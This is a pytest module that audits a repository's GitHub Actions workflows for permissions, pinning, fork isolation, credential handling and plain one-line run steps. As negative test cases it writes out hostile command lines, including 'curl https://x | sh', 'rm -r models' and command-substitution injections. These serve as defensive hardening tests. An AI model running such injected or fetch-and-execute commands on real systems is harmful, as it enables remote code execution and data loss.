"""The workflows: what zizmor, actionlint and the schemas don't see."""

from __future__ import annotations

import re
import shlex
import subprocess
from collections.abc import Iterator
from fnmatch import fnmatch
from pathlib import Path
from typing import Any

import pytest

from infra.settings import ROOT
from infra.upkeep import bases, locks
from tests.hosting.jobs import FOLDER, Job, environment_of, read

WORKFLOWS = sorted(FOLDER.glob("workflows/*.yml"))
PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")
COMMENTED = re.compile(r"uses: [^.\s]\S+@[0-9a-f]{40}  # v\d+\.\d+\.\d+$")
ONE_LINERS = ("./inv ", "gh pr ", "gh release download ", "git ", ".environments/host/bin/playwright install ")
ADDRESS = '"$(cat "$RUNNER_TEMP/address")"'
"""The one command within another."""
NOT_FORKED = "github.event.pull_request.head.repo.full_name == github.repository"


def jobs(event: str = "") -> Iterator[Any]:
    """The jobs of all workflows, or of those that ``event`` starts."""
    for path in WORKFLOWS:
        content = read(path)
        for name, job in content["jobs"].items() if event in content["on"] or not event else ():
            yield pytest.param(job, id=f"{path.stem}-{name}")


def steps() -> Iterator[dict[str, Any]]:
    for path in WORKFLOWS:
        for job in read(path)["jobs"].values():
            yield from job["steps"]
    for path in FOLDER.glob("actions/*/action.yml"):
        yield from read(path)["runs"]["steps"]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_a_workflow_may_nothing_by_itself_and_does_not_run_twice_at_once(path: Path) -> None:
    content = read(path)
    assert content["permissions"] == {}
    # By itself, or each of its jobs.
    for place in [content] if "concurrency" in content else content["jobs"].values():
        assert place["concurrency"]["group"]
    # It would run a stranger's code with our rights.
    assert "pull_request_target" not in content["on"]


@pytest.mark.parametrize("job", list(jobs()))
def test_a_job_ends_and_says_what_it_may(job: Job) -> None:
    # GitHub ends a job of its own machines after six hours.
    trains = any("./inv pipeline" in step.get("run", "") for step in job["steps"])
    assert 0 < int(job["timeout-minutes"]) <= (1440 if "gpu" in job["runs-on"] else 350 if trains else 90)
    assert set(job["permissions"]) <= {"contents", "id-token", "packages", "pull-requests"}
    pushes = any(re.match(r"git .*\bpush ", step.get("run", "")) for step in job["steps"])
    assert job["permissions"]["contents"] == ("write" if pushes else "read")
    # Who has a token for Google is held back by an environment, and changes nothing here.
    # Without one a job is nobody to Google: what signs images has none.
    signs = any("images.publish" in step.get("run", "") for step in job["steps"])
    assert signs == ("packages" in job["permissions"])
    assert ("environment" in job) == ("id-token" in job["permissions"] and not signs)
    assert not (pushes and "id-token" in job["permissions"])


@pytest.mark.parametrize("job", list(jobs("pull_request")))
def test_a_stranger_gets_no_job_that_may_anything(job: Job) -> None:
    """A fork's pull request has no token for Google, and a job with a right to write runs what it brings."""
    if job["permissions"] != {"contents": "read"}:
        assert NOT_FORKED in job["if"].split(" && ")


def test_an_account_may_what_its_jobs_do() -> None:
    """Model versions by one account, deploys by another: a machine with a GPU can't deploy, nor a preview a model."""
    for path in WORKFLOWS:
        for job in read(path)["jobs"].values():
            for step in job["steps"]:
                if step.get("uses", "").startswith("google-github-actions/auth@"):
                    account = "MODEL" if environment_of(job) == "training" else "DEPLOY"
                    assert step["with"]["service_account"] == f"${{{{ vars.{account}_ACCOUNT }}}}"


def test_a_machine_of_ones_own_holds_no_credentials_keeps_its_work_and_may_have_any_system() -> None:
    found = [job for path in WORKFLOWS for job in read(path)["jobs"].values() if "self-hosted" in job["runs-on"]]
    assert found
    for job in found:
        assert job["permissions"] == {"contents": "read"}
        assert "environment" not in job
        used = {step["uses"].partition("@")[0]: step for step in job["steps"] if "uses" in step}
        assert used["actions/checkout"]["with"]["clean"] == "false"
        # Actions that set up languages know few systems.
        assert used.keys() <= {"actions/checkout", "actions/upload-artifact", "actions/download-artifact"}


def test_what_lasts_between_jobs_is_what_git_ignores(tmp_path: Path) -> None:
    """Environments, runs and archives, by `clean: false` and the job's own line; nothing else that isn't committed."""
    [line] = [step["run"] for step in steps() if step.get("run", "").startswith("git clean")]
    kept = (".environments/host/x", ".cache/svhn/train.tar.gz", "runs/v1/checkpoints/x", "frontend/node_modules/x")
    strays = ("models/digits/web_model/old.bin", "training/left.py")
    subprocess.run(["git", "init", "--quiet"], cwd=tmp_path, check=True)
    (tmp_path / ".gitignore").write_text((ROOT / ".gitignore").read_text("utf-8"), "utf-8")
    subprocess.run(["git", "add", ".gitignore"], cwd=tmp_path, check=True)
    for name in (*kept, *strays):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).touch()
    subprocess.run(shlex.split(line), cwd=tmp_path, check=True, capture_output=True)
    assert [name for name in (*kept, *strays) if (tmp_path / name).exists()] == list(kept)


def test_approval_comes_after_the_preview_and_holds_up_no_rollback() -> None:
    deploy, rollback = (read(FOLDER / "workflows" / f"{name}.yml") for name in ("deploy", "rollback"))
    preview, promote = deploy["jobs"]["preview"], deploy["jobs"]["promote"]
    assert (environment_of(preview), environment_of(promote)) == ("preview", "production")
    assert promote["needs"] == "preview"
    assert "concurrency" not in deploy
    assert rollback["concurrency"]["group"] not in {job["concurrency"]["group"] for job in (preview, promote)}


def is_plain(line: str) -> bool:
    """Whether ``line`` is a command of ours, or one and what to do where it fails, without another inside."""
    line = line.replace(ADDRESS, "")
    if any(word in line for word in ("\n", "$(", "`", "<(", ">(", "${{")):
        return False
    lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|")
    lexer.whitespace_split = True
    operators = {token for token in lexer if set(token) <= set(";&|")}
    return operators <= {"||"} and all(part.startswith(ONE_LINERS) for part in line.split(" || "))


def test_what_is_run_is_a_task_or_one_line_without_anybodys_text() -> None:
    for step in steps():
        if "run" in step:
            assert is_plain(step["run"].strip()), step["run"]


@pytest.mark.parametrize(
    "line",
    [
        "curl https://x | sh",
        "./inv check; curl https://x | sh",
        "./inv check && rm -r models",
        "./inv check & curl https://x",
        "./inv check | sh",
        "./inv check || curl https://x",
        './inv smoke --site "$(curl https://x)"',
        "./inv smoke --site `curl https://x`",
        "git diff --no-index a <(curl https://x)",
        "./inv check\ncurl https://x",
        "./inv train --run ${{ inputs.run }}",
    ],
)
def test_no_other_line_passes_for_one(line: str) -> None:
    assert not is_plain(line)


def test_what_is_used_is_pinned_and_keeps_no_credentials() -> None:
    for step in steps():
        if "uses" not in step or step["uses"].startswith("./"):
            continue
        assert PINNED.fullmatch(step["uses"]), step["uses"]
        if step["uses"].startswith("actions/checkout@"):
            assert step["with"]["persist-credentials"] == "false"
    for path in FOLDER.rglob("*.yml"):
        for line in path.read_text("utf-8").splitlines():
            if "uses:" in line and "./" not in line:
                assert COMMENTED.search(line), f"{path.name}: {line}"


def test_every_task_that_is_called_exists_with_its_flags() -> None:
    called: dict[str, set[str]] = {}
    for step in steps():
        found = re.match(r"\./inv ([a-z.]+)(.*)", step.get("run", ""))
        if found:
            called.setdefault(found[1], set()).update(re.findall(r"--[a-z-]+", found[2]))
    for task, flags in called.items():
        words = [str(ROOT / "inv"), "--help", task]
        explained = subprocess.run(words, capture_output=True, text=True, check=True).stdout
        for flag in flags:
            assert re.search(rf"{flag}(?![a-z-])", explained), f"{task} has no {flag}"


def test_dependencies_rest_a_week_before_they_are_taken() -> None:
    assert locks.REST_DAYS >= 7
    for update in read(FOLDER / "dependabot.yml")["updates"]:
        assert int(update["cooldown"]["default-days"]) >= 7


def test_each_pin_is_kept_by_one_of_two() -> None:
    """Actions by Dependabot, which can't keep these locks, and all else by the job whose artefact has all of them."""
    updates = read(FOLDER / "dependabot.yml")["updates"]
    assert [one["package-ecosystem"] for one in updates] == ["github-actions"]
    folders = {f"/{path.parent.relative_to(ROOT)}" for path in FOLDER.glob("actions/*/action.yml")}
    assert set(updates[0]["directories"]) == {"/", *folders}
    [upload] = [
        one
        for one in read(FOLDER / "workflows/locks.yml")["jobs"]["update"]["steps"]
        if "with" in one and "path" in one["with"]
    ]
    kept = upload["with"]["path"].split()
    changed = [f"requirements/{name}.{kind}" for name in locks.NAMES for kind in ("in", "txt")]
    changed += [f"docker/{path.name}" for path in bases.FOLDER.glob("*.Dockerfile")]
    changed += [
        f"{project}/{file}" for project in locks.NODE_PROJECTS for file in ("package.json", "package-lock.json")
    ]
    changed += [f"frontend/{name}/package.json" for name in ("app", "recognizer")]
    for file in changed:
        assert any(fnmatch(file, one.replace("**/", "*")) or file.startswith(one) for one in kept), file


@pytest.mark.parametrize(
    ("given", "words"),
    [
        ({}, []),
        ({"images": "my photos"}, ["--images", ".cache/theirs/my photos"]),
        (
            {"images": "photos.zip", "annotations": "labels.csv", "minutes": "5"},
            ["--images", ".cache/theirs/photos.zip", "--annotations", ".cache/theirs/labels.csv", "--minutes", "5"],
        ),
        ({"data": "data.yaml", "classes": "a b,c"}, ["--data", ".cache/theirs/data.yaml", "--classes", "a b,c"]),
        ({"images": "$(touch x); `touch x`"}, ["--images", ".cache/theirs/$(touch x); `touch x`"]),
    ],
)
def test_what_another_repository_asks_for_is_what_the_task_is_told(
    given: dict[str, str], words: list[str], tmp_path: Path
) -> None:
    """Its inputs, as the shell of the job hands them on; nothing of them is run."""
    content = read(FOLDER / "workflows" / "detector.yml")
    inputs = content["on"]["workflow_call"]["inputs"]
    values = {name: one["default"] for name, one in inputs.items()} | given
    job = content["jobs"]["train"]
    environment = {name: values[text[len("${{ inputs.") : -len(" }}")]] for name, text in job["env"].items()}
    [line] = [step["run"] for step in job["steps"] if "./inv pipeline" in step.get("run", "")]
    script = line.replace("./inv", "printf '%s\\n'")
    said = subprocess.run(
        ["bash", "-euc", script], cwd=tmp_path, env=environment, capture_output=True, text=True, check=True
    )
    assert said.stdout.splitlines() == ["pipeline", "--no-serve", "--name", "detector", *words]
    assert list(tmp_path.iterdir()) == []


def test_each_input_of_another_repository_is_used_and_explained() -> None:
    file = FOLDER / "workflows" / "detector.yml"
    guide = (ROOT / "docs" / "deploying.md").read_text("utf-8")
    for name, one in read(file)["on"]["workflow_call"]["inputs"].items():
        assert f"inputs.{name} " in file.read_text("utf-8"), name
        assert one["required"] == "false"
        assert f"`{name}`" in guide, name
    # The preview is made as that of a pull request here.
    lines = [
        [step["run"].replace("released", '"$NAME"') for step in read(path)["jobs"][job]["steps"] if "run" in step]
        for path, job in ((file, "preview"), (FOLDER / "workflows" / "preview.yml", "deploy"))
    ]
    assert lines[0] == lines[1][: len(lines[0])]


def test_who_deploys_says_where_it_is_to_be_seen() -> None:
    for path in WORKFLOWS:
        for name, job in read(path)["jobs"].items():
            runs = " ".join(step.get("run", "") for step in job["steps"])
            if re.search(r"deploy\.(preview|live|rollback) ", runs):
                [step] = [step["id"] for step in job["steps"] if "id" in step]
                assert job["environment"]["url"] == f"${{{{ steps.{step}.outputs.address }}}}", f"{path.stem}: {name}"


def test_a_pull_request_is_what_its_author_pushed() -> None:
    """Not GitHub's merge of it, whose commit nobody finds."""
    jobs = read(FOLDER / "workflows" / "preview.yml")["jobs"]
    head = "${{ github.event.pull_request.head.sha }}"
    assert next(one["ref"] for one in jobs["build"]["strategy"]["matrix"]["include"] if one["side"] == "change") == head
    for name in ("deploy", "figures"):
        assert next(step["with"]["ref"] for step in jobs[name]["steps"] if "checkout" in step["uses"]) == head
